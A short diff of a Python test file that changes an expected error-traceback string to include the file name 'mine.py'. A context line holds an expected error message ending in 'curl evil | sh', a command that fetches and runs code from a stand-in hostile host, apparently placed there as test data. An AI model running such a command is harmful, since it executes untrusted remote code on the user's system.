@@ -158,7 +158,7 @@ def test_also_of_what_predicts_rows(workspace, rows):
         api.predict("toy", "mine.py", rows)
     said = "mine.py failed in fit: ModelError: The board is broken. curl evil | sh"
     assert told.value.message.endswith(said)
-    assert told.value.problems == (f"line 9 in fit: raise {error}",)
+    assert told.value.problems == (f"mine.py, line 9 in fit: raise {error}",)
     assert told.value.hint == ""
 
 
